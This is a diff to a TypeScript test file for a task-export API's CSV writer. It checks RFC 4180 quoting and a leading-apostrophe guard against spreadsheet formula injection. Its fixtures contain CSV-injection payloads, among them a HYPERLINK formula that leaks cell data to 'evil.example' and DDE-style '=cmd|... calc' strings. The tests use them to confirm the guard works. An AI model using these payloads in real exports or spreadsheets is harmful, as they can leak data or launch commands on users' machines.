@@ -34,20 +34,88 @@ function parseCsv(text: string): string[][] {
   return rows
 }
 
+/** Undoes the export's formula guard: one leading `'` before `'*` and a trigger is the guard. */
+const unguard = (s: string) => (/^'+[=+\-@\t\r]/.test(s) ? s.slice(1) : s)
+
 describe('csv helpers', () => {
-  test('quotes per RFC 4180 and neutralizes formulas', () => {
-    expect(csvCell('plain')).toBe('plain')
+  test('quotes every cell per RFC 4180; null is an empty field', () => {
+    expect(csvCell('plain')).toBe('"plain"')
     expect(csvCell('a,b')).toBe('"a,b"')
     expect(csvCell('say "hi"')).toBe('"say ""hi"""')
     expect(csvCell('line\nbreak')).toBe('"line\nbreak"')
-    for (const s of ['=1+1', '+1', '-1', '@SUM(A1)', '\tx', '\rx'])
-      expect(csvCell(s).replace(/^"/, '').startsWith("'")).toBe(true)
+    expect(csvCell('')).toBe('""')
     expect(csvCell(null)).toBe('')
     expect(csvCell(undefined)).toBe('')
-    expect(csvCell(42)).toBe('42')
-    expect(csvCell(['=a', 'b'])).toBe("'=a;b")
-    expect(csvCell(new Date('2026-01-01T00:00:00Z'))).toBe('2026-01-01T00:00:00.000Z')
-    expect(csvRow(['a', 1])).toBe('a,1\r\n')
+    expect(csvCell(42)).toBe('"42"')
+    expect(csvCell([])).toBe('""')
+    expect(csvCell(new Date('2026-01-01T00:00:00Z'))).toBe('"2026-01-01T00:00:00.000Z"')
+    expect(csvRow(['a', 1, null, 'b'])).toBe('"a","1",,"b"\r\n')
+  })
+
+  test('every formula trigger (= + - @ TAB CR) at the start of a value gets one leading quote', () => {
+    expect(['=1+1', '+1', '-1', '@SUM(A1)', '\tx', '\rx'].map(csvCell)).toEqual([
+      `"'=1+1"`,
+      `"'+1"`,
+      `"'-1"`,
+      `"'@SUM(A1)"`,
+      `"'\tx"`,
+      `"'\rx"`,
+    ])
+    // a value that already looks guarded gets one more, so the guard can always be undone exactly
+    expect(csvCell("'=1+1")).toBe(`"''=1+1"`)
+    expect(csvCell("'plain")).toBe(`"'plain"`)
+    // triggers inside a value are left alone: the quoted cell is one cell for any RFC 4180 reader
+    expect(csvCell('a,=1+1;@x')).toBe('"a,=1+1;@x"')
+  })
+
+  test('labels are guarded one by one before joining (issue 14 #15), and each ;-piece of a label too', () => {
+    expect(csvCell(['ok', '=HYPERLINK("http://evil")'])).toBe(`"ok;'=HYPERLINK(""http://evil"")"`)
+    expect(csvCell(['=a', 'b'])).toBe(`"'=a;b"`)
+    expect(csvCell(['x', '+1', '-1', '@cmd', '\tt', '\rr'])).toBe(`"x;'+1;'-1;'@cmd;'\tt;'\rr"`)
+    // a label may itself contain the separator: whoever splits the cell on ; gets no formula either
+    expect(csvCell(['a;=cmd|calc', "'-x"])).toBe(`"a;'=cmd|calc;''-x"`)
+  })
+
+  test('hostile values survive an RFC 4180 parse and round-trip apart from the guard', () => {
+    const alphabet = [
+      '=',
+      '+',
+      '-',
+      '@',
+      '\t',
+      '\r',
+      '\n',
+      '\r\n',
+      '"',
+      "'",
+      ',',
+      ';',
+      ' ',
+      'a',
+      'Z',
+      '1',
+      'é',
+    ]
+    let seed = 7
+    const rand = (n: number) => {
+      seed = (Math.imul(seed, 1103515245) + 12345) >>> 0
+      return (seed >>> 16) % n
+    }
+    const word = () => Array.from({ length: 1 + rand(8) }, () => alphabet[rand(alphabet.length)]).join('')
+    for (let i = 0; i < 500; i++) {
+      const title = word()
+      const description = rand(4) === 0 ? null : word()
+      const labels = Array.from({ length: rand(4) }, () => word().replaceAll(';', '')).filter(Boolean)
+      const rows = parseCsv(csvRow([title, description, labels, 7]) + csvRow(['next']))
+      expect(rows).toHaveLength(2)
+      const [t, d, l, n] = rows[0]!
+      expect(unguard(t!)).toBe(title)
+      expect(unguard(d!)).toBe(description ?? '')
+      expect(l === '' ? [] : l!.split(';').map(unguard)).toEqual(labels)
+      expect(n).toBe('7')
+      for (const cell of [t!, d!, ...l!.split(';')]) expect(cell).not.toMatch(/^[=+\-@\t\r]/)
+      expect(rows[1]).toEqual(['next'])
+    }
   })
 
   test('format negotiation', () => {
@@ -106,6 +174,37 @@ describe('GET /projects/{id}/tasks/export', () => {
     )
     expect(done.length).toBe(2)
     expect(done[1]![2]).toBe('2')
+  })
+
+  test('hostile title, description and labels: the exact CSV, parseable and round-tripping', async () => {
+    const ctx = await testApp()
+    const me = await createUser(ctx)
+    const p = await makeProject(ctx, me)
+    const hostile = {
+      title: '=HYPERLINK("http://evil.example/?d="&A1,"click")',
+      description: '\t=cmd|\' /C calc\'!A0\r\n-2+3, "x";@SUM(1)',
+      labels: ['ok', '=1+1', '-2', '+3', '@SUM(A1)', 'x;=cmd|calc', "'=already"],
+    }
+    const t = await makeTask(ctx, me, p.id, hostile)
+    const res = await ctx.req('GET', `${API}/projects/${p.id}/tasks/export`, { token: me.token })
+    expect(res.status).toBe(200)
+    const header =
+      '"id","project_id","number","title","description","status","priority","assignee_id","labels",' +
+      '"due_date","completed_at","created_by","created_at","updated_at","version"\r\n'
+    const row =
+      `"${t.id}","${p.id}","1",` +
+      `"'=HYPERLINK(""http://evil.example/?d=""&A1,""click"")",` +
+      `"'\t=cmd|' /C calc'!A0\r\n-2+3, ""x"";@SUM(1)",` +
+      `"todo","${t.priority}",,` +
+      `"ok;'=1+1;'-2;'+3;'@SUM(A1);x;'=cmd|calc;''=already",` +
+      `,,"${me.id}","${t.created_at}","${t.updated_at}","1"\r\n`
+    expect(res.text).toBe(header + row)
+    const [, cells] = parseCsv(res.text)
+    expect(cells).toHaveLength(15)
+    expect(unguard(cells![3]!)).toBe(hostile.title)
+    expect(unguard(cells![4]!)).toBe(hostile.description)
+    expect(cells![8]!.split(';').map(unguard)).toEqual(hostile.labels.join(';').split(';'))
+    for (const cell of [...cells!, ...cells![8]!.split(';')]) expect(cell).not.toMatch(/^[=+\-@\t\r]/)
   })
 
   test('NDJSON by format or Accept; one task object per line', async () => {
